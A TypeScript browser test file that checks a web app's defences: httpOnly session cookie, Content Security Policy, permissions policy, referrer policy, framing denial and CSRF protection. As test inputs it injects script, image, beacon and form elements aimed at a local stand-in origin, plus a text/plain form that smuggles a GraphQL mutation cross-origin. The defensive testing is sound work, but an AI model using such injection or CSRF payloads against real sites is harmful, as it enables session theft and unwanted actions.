import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Site } from '../safety/outbound-site.js';
import type { Account } from '../support/accounts.js';
import { browserOfFile, SCREENS } from '../support/browser.js';
import { freshPhoto } from '../support/photos.js';
import { serverOfFile } from '../support/server.js';
import { eventually, visit } from './visit.js';

const browser = browserOfFile();
const server = serverOfFile();

/** Another port of the same host: the same site to a browser, which then sends the cookie along, but another origin. */
let elsewhere: Site;
let user: Account;
let picture: string;

beforeAll(async () => {
  elsewhere = await Site.open();
  for (const path of ['/', '/framing', '/favicon.ico']) {
    elsewhere.page(path, (_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<p>elsewhere'),
    );
  }
  user = await server.newUser();
  picture = (await user.api.upload(freshPhoto('noFace'))).originalUrl;
});
afterAll(() => elsewhere.close());

const origin = () => `http://localhost:${elsewhere.port}`;

function openPage(): Promise<Page> {
  return browser.open(server.url, SCREENS[0] as (typeof SCREENS)[number], { problems: 'expected' });
}

test('no script of a page can read the session: not in cookies, not in any storage', async () => {
  const page = await visit(await openPage(), user, '/');
  await page.getByRole('link', { name: 'History' }).first().waitFor();
  const readable = await page.evaluate(
    () => document.cookie + JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
  );
  const cookie = (await page.context().cookies()).find(({ name }) => name === 'maskwatch_session');
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
  for (const part of cookie?.value.split('.') ?? []) expect(readable).not.toContain(part);
  expect(readable).not.toContain('maskwatch_session');
});

test('what is slipped into a page neither runs nor reaches another origin', async () => {
  const page = await visit(await openPage(), user, '/');
  await page.getByRole('link', { name: 'History' }).first().waitFor();
  const asked = elsewhere.requests.length;
  await page.evaluate((origin) => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(tag), { textContent: text });
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    add('script', {}, 'window.pwned = "inline"');
    add('script', { src: `${origin}/script.js` });
    add('script', { src: 'data:text/javascript,window.pwned="data"' });
    add('button', { onclick: 'window.pwned = "handler"' }).click();
    add('img', { src: `${origin}/pixel.png` });
    add('iframe', { src: `${origin}/` });
    add('object', { data: `${origin}/` });
    add('link', { rel: 'stylesheet', href: `${origin}/style.css` });
    add('base', { href: `${origin}/` });
    fetch(`${origin}/fetch`, { mode: 'no-cors' }).catch(() => {});
    navigator.sendBeacon(`${origin}/beacon`, 'secret');
    try {
      new WebSocket(origin.replace('http', 'ws'));
    } catch {
      // Some browsers throw.
    }
    const form = add('form', { action: `${origin}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
  }, origin());
  const found = () =>
    page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)].sort());
  await eventually(found).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ]);
  expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
  // Without 'unsafe-eval' a text is not run either; the automation's own evaluation is exempt, a timer's is not.
  await page.evaluate(() => {
    setTimeout('window.pwned = "timer"');
    return new Promise((resolve) => setTimeout(resolve));
  });
  expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
  expect(elsewhere.requests).toHaveLength(asked);
});

test('a page may use the camera and no other device, and no page elsewhere is told where one came from', async () => {
  const page = await visit(await openPage(), user, '/history?secret=1');
  const features = await page.evaluate(() =>
    (
      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
    ).featurePolicy.allowedFeatures(),
  );
  expect(features).toContain('camera');
  for (const feature of ['geolocation', 'microphone', 'payment', 'usb'])
    expect(features).not.toContain(feature);
  await page.evaluate((origin) => {
    location.href = `${origin}/`;
  }, origin());
  await page.getByText('elsewhere').waitFor();
  const arrival = elsewhere.requests.find(({ url }) => url === '/');
  expect(arrival?.headers.referer).toBeUndefined();
  expect(JSON.stringify(arrival)).not.toContain('secret');
});

test('no page elsewhere can frame a page of ours', async () => {
  const page = await visit(await openPage(), user, '/');
  await page.goto(`${origin()}/framing`);
  await page.evaluate((url) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
  }, server.url);
  await eventually(async () => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});

test('a page of another origin cannot act with the cookie: by fetch, form, picture or WebSocket', async () => {
  const page = await visit(await openPage(), user, '/');
  await page.goto(`${origin()}/`);
  const change = 'mutation { updateProfile(input: { firstName: "Eve" }) { id } }';
  const outcome = await page.evaluate(
    async ({ url, picture, change }) => {
      const post = async (type: string, body: BodyInit, mode: RequestMode, more = {}) => {
        const headers = type ? { 'content-type': type, ...more } : more;
        const sent = { method: 'POST', credentials: 'include' as const, mode, headers, body };
        return fetch(`${url}/graphql`, sent).then(
          () => 'answered',
          () => 'refused',
        );
      };
      const json = JSON.stringify({ query: change });
      const form = new FormData();
      form.set('operations', json);
      form.set('map', '{}');
      const image = new Image();
      const seen = new Promise((resolve) => {
        image.onload = () => resolve('seen');
        image.onerror = () => resolve('not seen');
      });
      image.src = url + picture;
      const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
      const closed = new Promise((resolve) => {
        socket.onopen = () => socket.send('{"type":"connection_init"}');
        socket.onclose = ({ code }) => resolve(code);
        socket.onmessage = ({ data }) => resolve(data);
      });
      return [
        await post('application/json', json, 'cors'),
        await post('text/plain', json, 'no-cors'),
        await post('', form, 'no-cors'),
        await post('', form, 'cors', { 'apollo-require-preflight': 'true' }),
        await seen,
        await closed,
      ];
    },
    { url: server.url, picture, change },
  );
  expect(outcome).toEqual(['refused', 'refused', 'refused', 'refused', 'not seen', 4403]);
  const form = `<form method="post" enctype="text/plain" action="${server.url}/graphql"><input name='{"query":"${change.replaceAll('"', '\\"')}","x":"' value='"}'></form>`;
  await page.evaluate((html) => {
    document.body.innerHTML = html;
    (document.querySelector('form') as HTMLFormElement).submit();
  }, form);
  await page.waitForURL(`${server.url}/graphql`);
  const { me } = await user.api.ask('{ me { firstName } sessions { id } }');
  expect(me.firstName).toBeNull();
});
